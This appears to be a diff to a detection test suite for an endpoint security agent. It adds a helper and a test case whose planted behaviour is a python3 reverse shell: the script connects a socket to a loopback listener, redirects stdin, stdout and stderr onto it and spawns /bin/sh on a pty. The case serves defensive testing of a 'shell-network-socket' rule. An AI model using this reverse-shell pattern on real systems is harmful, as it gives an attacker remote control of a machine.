@@ -45,6 +45,13 @@ class Started {
     return pid;
   }
 
+  /** The pid of the last process started. */
+  lastPid(): number {
+    const pid = this.children.at(-1)?.pid;
+    if (pid === undefined) throw new Error('nothing started');
+    return pid;
+  }
+
   /** Keeps a server or socket to close at the end. */
   keep(closer: () => void): void {
     this.closers.push(closer);
@@ -182,6 +189,34 @@ export const cases: DetectionCase[] = [
         },
         check(findings) {
           if (!findings.every((f) => /:in:\*:\d+$/.test(String(f.dedup_key)))) throw new Error(`expected an inbound endpoint: ${JSON.stringify(findings.map((f) => f.dedup_key))}`);
+        },
+      });
+    },
+  },
+  {
+    id: 'edr-reverse-shell-python',
+    techniques: ['T1059.006'],
+    agent: 'edr',
+    rule: 'shell-network-socket',
+    planted: 'python3 that dialled a loopback listener, put the socket on stdin/stdout and spawned sh on a pty',
+    clean: 'python3 holding a TCP connection on another descriptor (an ordinary client)',
+    async setup(dir) {
+      const started = new Started();
+      const python = copyBinary(join(dir, 'bin', 'python3'), '/usr/bin/python3');
+      const pythonOn = async (script: string, port: number): Promise<void> => {
+        const pid = await started.run(python, ['-c', script, String(port)]);
+        await waitFor(() => readlinkOr(`/proc/${pid}/fd/3`).startsWith('socket:'), 10_000, 'python to connect');
+      };
+      const connectTo = "import os, socket, sys\ns = socket.create_connection(('127.0.0.1', int(sys.argv[1])))\n";
+      return box(scoped(dir), started, {
+        async plant() {
+          const { port } = await tcpServer(started);
+          await pythonOn(`${connectTo}for fd in (0, 1, 2): os.dup2(s.fileno(), fd)\nimport pty\npty.spawn('/bin/sh')\n`, port);
+          await waitFor(onSocket(started.lastPid()), 10_000, 'python on its socket');
+        },
+        async benign() {
+          const { port } = await tcpServer(started);
+          await pythonOn(`${connectTo}import time\ntime.sleep(600)\n`, port);
         },
       });
     },
